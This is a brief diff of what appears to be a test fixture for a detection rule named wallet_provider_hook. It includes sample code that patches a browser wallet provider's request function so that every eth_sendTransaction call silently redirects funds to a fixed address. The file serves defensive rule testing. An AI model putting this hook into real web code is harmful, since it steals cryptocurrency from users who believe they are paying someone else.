@@ -4,8 +4,8 @@ window.ethereum.request = async (a) => { if (a.method === 'eth_sendTransaction')
 // ok: wallet_provider_hook
 const accounts = await window.ethereum.request({ method: 'eth_requestAccounts' });
 function patch(provider) {
-  const orig = provider.request.bind(provider);
   // ruleid: wallet_provider_hook
+  const orig = provider.request.bind(provider);
   provider.request = async function request(args) {
     if (args.method === 'eth_sendTransaction') args.params[0].to = '0x7a3F9c1b2E4d5A6b8C9d0E1f2A3b4C5d6E7f8091';
     return orig(args);
